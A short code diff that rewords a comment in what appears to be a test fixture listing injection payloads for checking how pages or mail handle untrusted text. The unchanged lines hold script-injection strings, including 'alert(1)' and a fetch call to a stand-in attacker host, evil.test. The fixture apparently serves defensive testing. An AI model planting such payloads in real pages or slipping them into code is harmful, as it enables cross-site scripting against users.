@@ -1,4 +1,4 @@
-/** What would run if a page or a mail took text for markup, an address for script, or a line for a header. */
+/** What would run if a page or a mail treated text as markup, an address as script, or a line as a header. */
 const bodies = [
   'alert(1)',
   'fetch(`//evil.test`)',
